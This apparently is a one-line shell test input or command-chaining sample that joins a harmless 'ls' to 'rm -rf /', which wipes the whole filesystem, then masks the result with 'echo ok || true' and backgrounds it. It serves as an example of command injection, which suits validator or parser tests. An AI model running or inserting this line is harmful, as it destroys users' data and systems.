ls; rm -rf / && echo ok || true & wait
